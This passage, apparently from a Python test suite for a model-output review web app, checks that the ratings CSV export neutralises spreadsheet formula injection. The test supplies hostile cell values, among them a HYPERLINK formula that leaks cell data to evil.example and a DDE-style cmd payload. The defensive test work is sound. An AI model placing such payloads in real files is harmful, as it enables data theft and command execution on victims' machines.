        driver.find_element(By.ID, "submit").click()
        wait.until(lambda d: "saved=1" in d.current_url)
    finally:
        driver.quit()
        attacker.shutdown()
    assert [(r["example_id"], r["reviewer"]) for r in stored_ratings(run_dir)] == [(first, "ann")]


def test_ratings_csv_export_never_holds_a_formula(run_dir, live):
    """Notes and spans that a spreadsheet would run (=, +, -, @) are exported as text: the CSV
    cell gets a leading apostrophe; the JSONL export keeps the exact text."""
    from sftflow.review.store import to_csv

    ann, csrf = _login(live, "ann")
    hostile = {"a_note": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "b_note": "+1+cmd|' /C calc'!A0",
               "a_span": "@SUM(A1:A9)", "b_span": "-2+3"}
    r = ann.post(f"/review/{_ids(run_dir)[0]}", data={**FULL_FORM, **hostile, "csrf": csrf}, headers={"Origin": live})
    assert r.status_code == 303, r.text[-300:]
    exported = ann.get("/export/ratings.csv", headers=AS_ADMIN)
    (row,) = list(csv.DictReader(io.StringIO(exported.text)))
    (raw,) = [json.loads(line) for line in ann.get("/export/ratings.jsonl", headers=AS_ADMIN).text.splitlines()]
    ann.close()
    a, b = raw["a_model"], "base" if raw["a_model"] == "tuned" else "tuned"
    expected = {f"{a}_note": hostile["a_note"], f"{b}_note": hostile["b_note"], f"{a}_span": hostile["a_span"],
                f"{b}_span": hostile["b_span"]}
    for column, text in expected.items():
        assert raw[column] == text and row[column] == "'" + text, column
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert row[f"{a}_coherence"] == "4"  # numbers stay numbers
    # tab and carriage return can start a formula too (notes typed in the page are stripped, so straight to the store)
    (tab, cr) = list(csv.DictReader(io.StringIO(to_csv([{**raw, "tuned_note": "\t=1+1"}, {**raw, "tuned_note": "\r=1+1"}]))))
    assert tab["tuned_note"] == "'\t=1+1" and cr["tuned_note"] == "'\r=1+1"
